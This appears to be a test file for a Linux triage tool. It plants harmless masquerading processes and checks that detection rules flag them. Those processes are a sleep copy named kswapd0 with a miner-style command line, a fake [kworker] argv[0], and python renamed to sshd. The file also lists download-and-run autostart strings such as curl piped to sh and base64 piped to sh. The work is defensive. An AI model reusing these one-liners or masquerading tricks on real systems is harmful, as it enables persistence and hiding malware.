// Linux masquerading, fileless images and pool connections. For real on this machine: a copy of
// sleep named kswapd0 in a hidden /dev/shm folder, started with a miner's command line, holding a
// TCP connection to a local listener on port 3333 and deleted while it runs; a copy with a
// [kworker] argv[0]; python renamed to sshd with prctl; a copy whose file name is not UTF-8.
// The real network and processes steps collect them through the CLI, triage flags each at its
// level and ties the connection's finding to the process's. On recorded records: the rules' edges
// (renamed packaged programs, browsers, dot folders in home directories, loopback pool ports),
// and the Linux autostart rule on download-and-run lines and hidden folders.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, unlinkSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import type { Finding } from '../lib/triage/engine.ts';
import { triageFolder } from '../lib/triage/engine.ts';
import { loadRules } from '../lib/triage/rules.ts';
import { cli, pwshOrFail, readJson, readJsonl, teamPlaybook, tempDir, writeTree } from './helpers.ts';

pwshOrFail();
const rules = loadRules();

const started: ChildProcess[] = [];
function start(cmd: string, args: string[], opts: Parameters<typeof spawn>[2] = {}): ChildProcess {
  const child = spawn(cmd, args, { stdio: 'ignore', ...opts });
  started.push(child);
  return child;
}
const sleepMs = (ms: number) => new Promise((r) => setTimeout(r, ms));
const commOf = (pid: number) => readFileSync(`/proc/${pid}/comm`, 'latin1').trimEnd();

/** Runs host-info, network and processes through the CLI and triages the folder; returns its findings.json. */
function collectAndTriage(): { dir: string; findings: any[]; processes: any[]; connections: any[]; report: string } {
  const book = teamPlaybook('lx', [{ step: 'host-info' }, { step: 'network' }, { step: 'processes' }]);
  const out = tempDir();
  const run = cli(['run', 'lx', '--playbooks', book, '--out', out], { timeoutMs: 300_000 });
  assert.is(run.code, 0, run.stderr + run.stdout);
  const dir = /evidence: (.+)/.exec(run.stdout)![1].trim();
  const tri = cli(['triage', dir, '--json']);
  assert.is(tri.code, 0, tri.stderr);
  const outDir = JSON.parse(tri.stdout).hosts[0].out;
  return {
    dir,
    findings: readJson(join(outDir, 'findings.json')).findings,
    processes: readJsonl(join(dir, 'steps', '03-processes', 'records.jsonl')),
    connections: readJsonl(join(dir, 'steps', '02-network', 'records.jsonl')),
    report: readFileSync(join(outDir, 'report.html'), 'utf8'),
  };
}

test('a kswapd0 look-alike from a hidden /dev/shm folder, deleted, with a pool connection; a [kworker] argv[0]; python renamed to sshd; a file name that is not UTF-8', async () => {
  const shm = `/dev/shm/.magpie-${process.pid}`;
  const server = net.createServer((s) => s.on('error', () => {}));
  const accepted: net.Socket[] = [];
  server.on('connection', (s) => accepted.push(s));
  try {
    mkdirSync(shm);
    const miner = join(shm, 'kswapd0');
    const updater = join(shm, 'updater');
    for (const f of [miner, updater]) {
      copyFileSync('/bin/sleep', f);
      chmodSync(f, 0o755);
    }
    const oddName = Buffer.concat([Buffer.from(`${shm}/sl`), Buffer.from([0xff]), Buffer.from('eep')]);
    copyFileSync('/bin/sleep', oddName);
    chmodSync(oddName, 0o755);

    await new Promise<void>((res, rej) => server.once('error', (e) => rej(new Error(`cannot listen on 127.0.0.1:3333 (${(e as Error).message}): this test needs the port`))).listen(3333, '127.0.0.1', res));
    const sock = net.connect(3333, '127.0.0.1');
    await new Promise<void>((res, rej) => sock.once('connect', res).once('error', rej));
    // The look-alike gets the connected socket as its fd 3; the test lets go of its own copy, so
    // the connection is the look-alike's alone.
    const pool = 'stratum+tcp://127.0.0.1:3333';
    const kswapd = start(miner, ['3607'], { argv0: `kswapd0 -o ${pool} -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1`, stdio: ['ignore', 'ignore', 'ignore', sock] });
    sock.destroy();
    const bracket = start(updater, ['3608'], { argv0: '[kworker/1:2-events]' });
    const renamed = start('/usr/bin/python3', ['-c', "import ctypes, time; ctypes.CDLL(None).prctl(15, b'sshd', 0, 0, 0); time.sleep(3609)"]);
    // exec from sh: spawn takes its program as a string, which cannot hold the byte 0xff.
    const odd = start('/bin/sh', ['-c', 'exec "$1/$(printf "sl\\377eep")" 3610', 'sh', shm]);
    await sleepMs(300);
    unlinkSync(miner);
    for (const c of [kswapd, bracket, renamed, odd]) assert.ok(c.pid && c.exitCode === null, `planted process ${c.spawnfile} did not start`);
    await sleepMs(200);
    assert.is(commOf(kswapd.pid!), 'kswapd0');
    assert.is(commOf(renamed.pid!), 'sshd');

    const r = collectAndTriage();
    const rec = (pid: number) => r.processes.find((p) => p.pid === pid);
    const rulesOn = (pid: number) => r.findings.filter((f: Finding) => f.kind === 'process' && f.record.pid === pid).map((f: Finding) => `${f.rule.level} ${f.rule.id}`).sort();

    // The look-alike: its record and its findings.
    const k = rec(kswapd.pid!);
    assert.ok(k, 'the look-alike was collected');
    assert.is(k.name, 'kswapd0');
    assert.is(k.path, `${miner} (deleted)`);
    assert.is(k.deleted, true);
    assert.is(k.imageLocation, 'tmp');
    assert.is(k.kernelThread, false);
    assert.is(k.kernelThreadLookalike, true);
    assert.is(k.nameMismatch, false, 'comm is the file name: no rename');
    assert.ok(typeof k.cpuSeconds === 'number' && k.cpuSeconds >= 0, `cpuSeconds ${k.cpuSeconds}`);
    assert.match(k.startTime, /^\d{4}-\d\d-\d\dT/);
    assert.equal(rulesOn(kswapd.pid!), ['high magpie-linux-deleted-or-tmp-binary', 'high magpie-linux-kernel-thread-lookalike', 'high magpie-miner-commandline']);

    // Its pool connection: owned by it, flagged high, and tied to its findings.
    const c = r.connections.find((x) => x.remotePort === 3333 && x.state === 'Established' && x.pid === kswapd.pid);
    assert.ok(c, `the connection to 3333 belongs to the look-alike: ${JSON.stringify(r.connections.filter((x) => x.remotePort === 3333 || x.localPort === 3333))}`);
    const conn = r.findings.filter((f: Finding) => f.kind === 'connection' && f.record.pid === kswapd.pid);
    assert.equal(conn.map((f: Finding) => `${f.rule.level} ${f.rule.id}`), ['high magpie-linux-flagged-process-connection']);
    assert.equal(conn[0].record.processFlaggedBy.sort(), ['magpie-linux-deleted-or-tmp-binary', 'magpie-linux-kernel-thread-lookalike', 'magpie-miner-commandline']);
    const own = r.findings.filter((f: Finding) => f.kind === 'process' && f.record.pid === kswapd.pid);
    assert.equal(conn[0].relatedTo.map((x: { id: string }) => x.id).sort(), own.map((f: Finding) => f.id).sort());
    assert.ok(conn[0].relatedTo.every((x: { title: string; level: string }) => x.title && x.level === 'high'));
    assert.match(r.report, new RegExp(`Its process is flagged: <a href="#${own[0].id}">${own[0].id}</a>`));
    // The listener's side of the same connection is the test's own, and not flagged.
    assert.not.ok(r.findings.some((f: Finding) => f.kind === 'connection' && f.record.localPort === 3333));

    // [kworker/…] as argv[0]: a kernel-thread look-alike although comm is the file's name.
    const b = rec(bracket.pid!);
    assert.is(b.commandLine, '[kworker/1:2-events] 3608');
    assert.is(b.kernelThreadLookalike, true);
    assert.ok(rulesOn(bracket.pid!).includes('high magpie-linux-kernel-thread-lookalike'));

    // python renamed to sshd: a name that is not its program's, from a packaged interpreter: medium.
    const s = rec(renamed.pid!);
    assert.is(s.name, 'sshd');
    assert.match(s.path, /\/python3[0-9.]*$/);
    assert.is(s.nameMismatch, true);
    assert.is(s.kernelThreadLookalike, false);
    assert.equal(rulesOn(renamed.pid!), ['medium magpie-linux-name-mismatch']);

    // A file name that is not UTF-8: the text keeps U+FFFD, the base64 fields keep the bytes.
    const o = rec(odd.pid!);
    assert.ok(o, 'the non-UTF-8 copy was collected');
    assert.is(o.path, `${shm}/sl\uFFFDeep`);
    assert.ok(Buffer.from(o.pathBase64, 'base64').equals(oddName), `pathBase64 ${o.pathBase64}`);
    assert.ok(Buffer.from(o.commandLineBase64, 'base64').equals(Buffer.concat([oddName, Buffer.from('\u00003610\u0000')])), `commandLineBase64 ${o.commandLineBase64}`);
    assert.ok(rulesOn(odd.pid!).includes('high magpie-linux-deleted-or-tmp-binary'));

    // Real kernel threads and ordinary processes stay unflagged and keep their fields plain.
    const kthreadd = rec(2);
    assert.is(kthreadd.kernelThread, true);
    assert.is(kthreadd.kernelThreadLookalike, false);
    assert.equal(r.findings.filter((f: Finding) => f.rule.id === 'magpie-linux-kernel-thread-lookalike').map((f: Finding) => f.record.pid).sort(), [kswapd.pid, bracket.pid].sort());
    assert.ok(r.processes.filter((p) => p.kernelThread).length >= 5);
    assert.not.ok(r.processes.some((p) => p.kernelThread && (p.kernelThreadLookalike || p.path)));
    for (const p of r.processes) assert.is(Boolean(p.pathBase64), String(p.path).includes('\uFFFD'), `pathBase64 only for a path that lost bytes: ${p.pid} ${p.path}`);
  } finally {
    for (const c of started) if (c.exitCode === null && c.signalCode === null) c.kill('SIGKILL');
    for (const s of accepted) s.destroy();
    await new Promise((res) => server.close(res));
    rmSync(shm, { recursive: true, force: true });
  }
  assert.not.ok(existsSync(shm));
});

/** A Linux host folder made of the given process and connection records. */
async function recordedHost(processes: object[], connections: object[]): Promise<string> {
  const { EvidenceWriter } = await import('../lib/evidence/writer.ts');
  const step = (index: number, id: string, kind: 'host' | 'connection' | 'process') => ({ index, id, stepId: id, description: id, kind, timeoutSec: 1, continueOnError: true, admin: false, params: {}, tools: [], scripts: {}, source: 'test' });
  const steps = [step(1, 'host-info', 'host'), step(2, 'network', 'connection'), step(3, 'processes', 'process')];
  const w = EvidenceWriter.create({ root: tempDir(), caseId: 'lx', targetName: 'web-01', transport: 'import', plan: { playbook: { name: 'lx', file: 'lx', sha256: '0'.repeat(64), params: {} }, steps } });
  const lines = (rs: object[]) => rs.map((x) => JSON.stringify(x)).join('\n') + '\n';
  await w.recordStep(steps[0], { status: 'ok', reason: null, partial: false, os: 'linux', fetched: writeTree({ 'records.jsonl': lines([{ hostname: 'web-01', os: 'linux' }]) }) });
  await w.recordStep(steps[1], { status: 'ok', reason: null, partial: false, os: 'linux', fetched: writeTree({ 'records.jsonl': lines(connections) }) });
  await w.recordStep(steps[2], { status: 'ok', reason: null, partial: false, os: 'linux', fetched: writeTree({ 'records.jsonl': lines(processes) }) });
  return w.finish('complete');
}

const proc = (pid: number, name: string, path: string, more: object = {}) => ({
  pid, ppid: 1, name, path, commandLine: path, user: 'root', startTime: '2026-01-05T10:00:00Z', cpuSeconds: 1, signatureStatus: 'NotPackaged', signed: false,
  deleted: path.endsWith(' (deleted)'), imageLocation: 'other', kernelThread: false, kernelThreadLookalike: false, nameMismatch: false, ...more,
});
const tcp = (pid: number, remoteAddress: string, remotePort: number, state = 'Established') => ({ protocol: 'tcp', localAddress: '10.0.0.5', localPort: 40000 + pid, remoteAddress, remotePort, state, pid, processName: null });

test('recorded records: renamed programs by where they run, browsers, dot folders in and outside home, pool ports and loopback', async () => {
  const dir = await recordedHost(
    [
      proc(10, 'sshd', '/home/deploy/.cache/x/agent', { imageLocation: 'hidden', nameMismatch: true }),
      proc(11, 'sshd', '/usr/bin/python3.11', { nameMismatch: true, signatureStatus: 'PackageVerified', signed: true }),
      proc(12, 'Web Content', '/usr/lib/firefox-esr/firefox-esr', { nameMismatch: true, signatureStatus: 'PackageVerified' }),
      proc(13, 'cron', '/usr/lib/.cache/cron', { imageLocation: 'hidden' }),
      proc(14, 'pwsh', '/root/.dotnet/tools/pwsh', { imageLocation: 'hidden' }),
      proc(15, 'xmr', '/opt/xmr/xmr'),
      proc(16, 'node', '/usr/bin/node', { signatureStatus: 'PackageVerified' }),
      proc(17, 'agent', '/memfd: (deleted)', { imageLocation: 'memfd', nameMismatch: false }),
    ],
    [tcp(15, '198.51.100.7', 3333), tcp(16, '127.0.0.1', 4444), tcp(16, '203.0.113.20', 443), tcp(17, '203.0.113.30', 443), tcp(16, '198.51.100.8', 14444, 'TimeWait')],
  );
  const { findings } = await triageFolder(dir, { rules });
  const rows = findings.map((f) => `${f.rule.level} ${f.rule.id} ${f.record.pid}${f.kind === 'connection' ? `→${f.record.remoteAddress}:${f.record.remotePort}` : ''}`).sort();
  assert.equal(rows, [
    'high magpie-linux-deleted-or-tmp-binary 17',
    'high magpie-linux-flagged-process-connection 17→203.0.113.30:443',
    'high magpie-linux-name-mismatch-hidden-or-temp 10',
    'medium magpie-linux-hidden-image 13',
    'medium magpie-linux-mining-pool-port 15→198.51.100.7:3333',
    'medium magpie-linux-name-mismatch 11',
  ]);
  const byRule = (id: string) => findings.find((f) => f.rule.id === id)!;
  const memfd = byRule('magpie-linux-deleted-or-tmp-binary');
  assert.equal(byRule('magpie-linux-flagged-process-connection').relatedTo, [{ id: memfd.id, title: memfd.rule.title, level: 'high' }]);
  assert.is(byRule('magpie-linux-mining-pool-port').relatedTo, undefined, 'its process is not flagged');
});

test('the Linux autostart rule: downloads piped to a shell (through sudo or a full path), base64 to a shell, temporary and hidden folders outside home', () => {
  const rule = rules.find((r) => r.def.id === 'magpie-linux-autorun-suspicious')!;
  const hit = (launchString: string, imagePath = launchString.split(' ')[0]) => rule.match({ location: '/etc/cron.d/x', entry: 'x', category: 'Tasks', launchString, imagePath });
  for (const bad of [
    'curl -fsSL http://203.0.113.9/x.sh | sh',
    'wget -O- http://203.0.113.9/x | bash',
    'wget -qO - http://203.0.113.9/x|bash -s',
    'curl -s http://203.0.113.9/x | sudo -E bash',
    'curl http://203.0.113.9/x | /bin/sh',
    'curl http://203.0.113.9/x.py | python3 -',
    'echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh',
    '/dev/shm/.x/kworker --daemon',
    '/usr/lib/.cache/kswapd0',
    'bash -c "/var/lib/.x/run --quiet"',
  ])
    assert.ok(hit(bad), bad);
  for (const good of [
    '/home/deploy/.local/bin/syncthing serve',
    '/root/.cargo/bin/tool --update',
    'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )',
    '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean',
    'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0d7c',
    '/usr/sbin/sshd -D $SSHD_OPTS',
  ])
    assert.not.ok(hit(good), good);
});

test.run();
